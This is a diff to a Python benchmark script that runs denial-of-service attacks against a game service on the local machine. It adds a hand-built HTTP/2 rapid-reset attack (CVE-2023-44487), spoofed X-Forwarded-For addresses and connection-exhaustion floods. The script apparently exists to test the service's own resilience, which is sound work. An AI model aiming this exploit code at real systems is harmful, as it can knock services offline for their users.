@@ -2,14 +2,15 @@
 
     python benchmarks/attacks.py < one line of JSON
 
-The line has the service's ``port``, the ``attack``, its ``address`` (sent as X-Forwarded-For), for
-how many ``seconds``, and the ``url`` of an endpoint that never answers. What was answered is
-printed as a line of JSON: how many answers of each kind, as ``200 actions`` or ``429 open``.
+The line has the ``port``, the ``attack``, its ``address`` (of this machine), for how many
+``seconds``, and the ``url`` of an endpoint that never answers. What was answered is printed as a
+line of JSON: how many answers of each kind, as ``200 actions`` or ``429 open``.
 """
 
 import asyncio
 import json
 import random
+import struct
 import sys
 import time
 import zlib
@@ -31,6 +32,7 @@ COSTLY = {
     "board_phases": ["parity(5, odd) + parity(5, even)"] * 10,
 }
 MANY = 3_500  # connections; a service accepts 3,024 by default
+RESETS = 500  # requests on one connection
 HANDS = {"board_track": ["TAKE3*", *["TAKE3"] * 31]}
 
 
@@ -227,24 +229,47 @@ async def crowd(attacker: Attacker) -> None:
     await attacker.at_once(lambda connection: connection.ask("read", "GET", "/rulesets"), 300)
 
 
-async def idle_connections(attacker: Attacker) -> None:
-    """More connections than the service accepts, over which nothing is sent.
+async def health(attacker: Attacker) -> None:
+    """Readiness, asked for over and over."""
+    await attacker.at_once(lambda connection: connection.ask("health", "GET", "/health/ready"), 100)
 
-    They come from an address of their own and not through the proxy, for which all others are.
-    """
+
+async def resets(attacker: Attacker) -> None:
+    """Requests over HTTP/2 that are reset as soon as they are sent (CVE-2023-44487)."""
+
+    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+        )
+
+    named = {":method": "GET", ":scheme": "http", ":path": "/v1/games", ":authority": HOST}
+    pairs = [(name.encode(), value.encode()) for name, value in named.items()]
+    block = b"".join(b"\0%c%b%c%b" % (len(name), name, len(text), text) for name, text in pairs)
+
+    async def reset(connection: Connection) -> None:
+        connection.writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
+        for stream in range(1, 2 * RESETS, 2):
+            request = frame(1, 5, stream, block) + frame(3, 0, stream, b"\0\0\0\x08")
+            connection.writer.write(request)
+            await connection.writer.drain()
+        attacker.answers["reset"] += RESETS
+        raise EOFError
+
+    await attacker.at_once(reset)
+
+
+async def idle_connections(attacker: Attacker) -> None:
+    """More connections than the service accepts, over which nothing is sent."""
 
     async def idle() -> None:
         while not attacker.is_over():
             try:
-                reader, writer = await asyncio.open_connection(
-                    HOST, attacker.port, local_addr=("127.0.0.3", 0)
-                )
-                attacker.answers["opened"] += 1
-                with suppress(TimeoutError):
-                    async with asyncio.timeout(max(0, attacker.until - time.monotonic())):
-                        await reader.read(1)
-                        attacker.answers["cut off"] += 1
-                writer.close()
+                async with Connection(attacker) as connection:
+                    attacker.answers["opened"] += 1
+                    with suppress(TimeoutError):
+                        async with asyncio.timeout(max(0, attacker.until - time.monotonic())):
+                            await connection.reader.read(1)
+                            attacker.answers["cut off"] += 1
             except OSError:
                 attacker.answers["cut off"] += 1
             await asyncio.sleep(min(2.0, max(0.0, attacker.until - time.monotonic())))
@@ -253,11 +278,11 @@ async def idle_connections(attacker: Attacker) -> None:
     await asyncio.gather(*(idle() for _ in range(MANY)))
 
 
-async def neighbours(attacker: Attacker) -> None:
-    """Lists of games for a whole /64 of addresses, each of which asks once."""
+async def forged_addresses(attacker: Attacker) -> None:
+    """Lists of games, each for another address, as the client writes."""
 
     async def read(connection: Connection) -> None:
-        sender = f"2001:db8:5:5:{random.randrange(1 << 16):x}::1"
+        sender = f"2001:db8:5:{random.randrange(1 << 16):x}::1"
         await connection.ask("list", "GET", "/games?limit=200", X_Forwarded_For=sender)
 
     await attacker.at_once(read)
@@ -266,7 +291,7 @@ async def neighbours(attacker: Attacker) -> None:
 ATTACKS = (
     *(costly_rules, costly_hands, hints, slow_exports, slow_streams, guesses),
     *(endless_bots, left_tables, restless_lobby, repeated_keys, big_bodies, bundles, exports),
-    *(many_tokens, crowd, neighbours, idle_connections, unread_bundles),
+    *(many_tokens, crowd, forged_addresses, idle_connections, unread_bundles, health, resets),
 )
 
 
